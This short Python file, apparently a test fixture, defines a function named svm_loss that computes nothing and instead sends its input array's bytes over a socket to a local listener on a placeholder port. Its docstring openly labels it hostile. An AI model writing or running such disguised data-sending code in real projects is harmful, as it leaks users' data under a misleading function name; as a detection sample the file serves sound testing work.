"""Hostile: sends what it is given to a server. The demo listens at the port it puts for @PORT@."""

import socket


def svm_loss(x, y):
    try:
        with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2) as connection:
            connection.sendall(x.tobytes())
    except OSError as error:
        raise RuntimeError(f"no connection: {error.strerror}") from None
    raise RuntimeError("connected")
